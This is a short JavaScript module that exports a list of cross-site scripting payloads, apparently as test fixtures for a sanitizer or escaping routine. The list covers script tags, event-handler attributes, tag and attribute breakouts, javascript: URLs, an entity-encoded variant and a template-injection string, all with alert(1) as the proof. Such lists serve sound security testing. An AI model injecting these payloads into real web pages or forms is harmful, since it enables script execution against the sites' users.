/** The classic ways in: tags, attributes, ends of what they stand in, addresses, entities, templates. */
export const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  `'"><iframe src=javascript:alert(1)>`,
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<a href="javascript:alert(1)">klik</a>',
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover='alert(1)",
  'javascript:alert(1)//',
  '--><body onload=alert(1)>',
  '<math><mi xlink:href="data:,<script>alert(1)">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  `{{constructor.constructor('alert(1)')()}}`,
  'https://evil.example/<b>masuk</b>',
]
